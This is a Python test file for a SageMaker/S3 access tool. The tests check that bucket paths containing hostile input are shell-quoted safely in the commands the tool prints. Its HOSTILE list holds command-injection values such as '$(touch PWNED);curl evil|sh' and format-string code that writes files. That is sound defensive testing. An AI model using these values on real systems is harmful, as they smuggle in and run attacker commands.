"""Commands to be pasted, for places that whoever may write to a bucket has named."""

from __future__ import annotations

import re
import shlex
from dataclasses import replace
from datetime import datetime, timezone
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sm_access.access.call import Call
from sm_access.access.denial_message import DenialMessage
from sm_access.access.denied_call import Ask, DeniedCall
from sm_access.access.diagnosis import Basis, Cause, Diagnosis
from sm_access.access.evidence import BucketEvidence, PrincipalEvidence
from sm_access.access.level import Level
from sm_access.access.target import S3Target
from sm_access.access.verdict import judge
from sm_access.policy import Decision
from sm_access.presentation import typed
from sm_access.presentation.denial import denial_page
from sm_access.presentation.html import to_html
from sm_access.presentation.page import Block, Command, Page, Part, Tone, line
from sm_access.presentation.permissions import request_command
from sm_access.presentation.verdict import verdict_page

NOW = datetime(2026, 11, 24, tzinfo=timezone.utc)
ACCOUNT = "111122223333"
HOSTILE = (
    "x$(touch PWNED);curl evil|sh #/",
    "x`touch PWNED`/",
    '{open("PWNED","w").write("x")}/',
    "{open('PWNED','w').write('x')}/a",
    "$HOME \"quoted' &/",
    "a sm-access b/",
)
PRINCIPAL = PrincipalEvidence(
    arn=f"arn:aws:sts::{ACCOUNT}:assumed-role/nb/SageMaker",
    iam_arn=f"arn:aws:iam::{ACCOUNT}:role/nb",
    account=ACCOUNT,
    identity=(),
    boundary=None,
    read_at=NOW,
)
BUCKET = BucketEvidence("lake", ACCOUNT, None, True, None, None, "eu-central-1", NOW)


def commands(blocks: tuple[Block, ...]) -> list[str]:
    found = [block.text for block in blocks if isinstance(block, Command)]
    return found + [text for block in blocks if isinstance(block, Part) for text in commands(block.blocks)]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_the_words_are_read_back(words: list[str]) -> None:
    assert shlex.split(typed.command(*words)) == ["sm-access", *words]


@pytest.mark.parametrize("path", HOSTILE)
def test_each_page_shows_the_place_as_one_word(path: str) -> None:
    target = S3Target("lake", path)
    judged = replace(
        judge(PRINCIPAL, BUCKET, target, Level.READ, now=NOW), with_grant=Decision.ALLOW, asked="read"
    )
    denied = DeniedCall(Call("s3", "GetObject"), DenialMessage(), (), "s3:GetObject", "", "lake", path)
    card = Diagnosis(Cause.NOT_GRANTED, Basis.ENGINE, denied, helps=True, ask=Ask(target, Level.READ))
    shown = [*commands(verdict_page(judged, NOW).blocks), *commands(denial_page([card], NOW).blocks)]
    shown.append(request_command(target, Level.READ, judged) or "")
    assert len(shown) >= 3
    for text in shown:
        words = shlex.split(text)
        assert words[0] == "sm-access"
        assert {str(target), f"{target}/"} & set(words)


def test_in_html_the_command_is_the_magic_and_the_words_stay() -> None:
    told = (
        Command("Ask", typed.request("s3://lake/a sm-access b/", "read")),
        Command("Look", typed.typed("aws", "s3", "ls", "s3://lake/sm-access x/")),
    )
    html = to_html(Page(line("No."), Tone.NO, told, {}))
    shown = [unescape(each) for each in re.findall("<code>(.*?)</code>", html)]
    assert shown == [
        "%sm_access request 's3://lake/a sm-access b/' read --for 7d --why \"...\"",
        "aws s3 ls 's3://lake/sm-access x/'",
    ]
